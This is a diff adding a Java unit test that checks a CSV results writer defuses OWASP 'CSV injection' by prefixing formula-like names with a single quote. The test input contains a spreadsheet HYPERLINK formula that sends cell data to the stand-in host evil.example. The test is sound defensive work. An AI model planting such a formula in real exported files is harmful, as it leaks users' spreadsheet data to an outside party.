@@ -44,6 +44,22 @@ class ReportTests {
 				"1882,\"Sägen \"\"X\"\"\",500000,50000,25000,90000,665000");
 	}
 
+	/**
+	 * OWASP "CSV injection": a name that Excel would take for a formula is written as
+	 * quoted text with a single quote before it; the amounts stay numbers.
+	 */
+	@Test
+	void writesANameThatWouldStartAFormulaAsTextInTheResultsFile() throws IOException {
+		Path file = this.folder.resolve("results.csv");
+
+		ResultsCsv.write(ReportFixture.calculation("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")", "-2+3"),
+				file);
+
+		assertThat(Files.readAllLines(file)).containsExactly(String.join(",", ResultsCsv.HEADER),
+				"1880,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Klicka\"\")\",1000000,150000,75000,0,1225000",
+				"1882,\"'-2+3\",500000,50000,25000,90000,665000");
+	}
+
 	@ParameterizedTest(name = "{0} → \"{1}\"")
 	@CsvSource(textBlock = """
 			0,          0
